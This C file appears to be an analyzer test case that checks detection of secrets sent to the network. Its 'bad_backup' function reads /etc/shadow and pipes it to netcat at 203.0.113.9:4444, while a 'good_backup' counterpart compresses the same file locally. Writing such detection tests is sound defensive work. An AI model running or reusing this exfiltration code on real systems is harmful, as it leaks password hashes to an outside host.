/* What is written to a pipe goes where the child at its other end sends it: no `popen` tells so. */
#include <fcntl.h>
#include <sys/types.h>
#include <unistd.h>

static int start_courier(void) {
    int ends[2];
    if (pipe(ends))
        return -1;
    if (fork() == 0) {
        dup2(ends[0], STDIN_FILENO);
        close(ends[0]);
        close(ends[1]);
        execlp("nc", "nc", "-w", "3", "203.0.113.9", "4444", (char *)NULL);
        _exit(127);
    }
    close(ends[0]);
    return ends[1];
}

static int start_packer(void) {
    int ends[2];
    if (pipe(ends))
        return -1;
    if (fork() == 0) {
        dup2(ends[0], STDIN_FILENO);
        close(ends[0]);
        close(ends[1]);
        execlp("gzip", "gzip", "-9", (char *)NULL);
        _exit(127);
    }
    close(ends[0]);
    return ends[1];
}

int bad_backup(void) {
    char block[1024];
    ssize_t got;
    int from = open("/etc/shadow", O_RDONLY), to = start_courier();
    while (from >= 0 && to >= 0 && (got = read(from, block, sizeof block)) > 0)
        // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
        if (write(to, block, (size_t)got) != got)
            break;
    close(to);
    return close(from);
}

/* The same, and the child packs it for this host. */
int good_backup(void) {
    char block[1024];
    ssize_t got;
    int from = open("/etc/shadow", O_RDONLY), to = start_packer();
    while (from >= 0 && to >= 0 && (got = read(from, block, sizeof block)) > 0)
        if (write(to, block, (size_t)got) != got)
            break;
    close(to);
    return close(from);
}
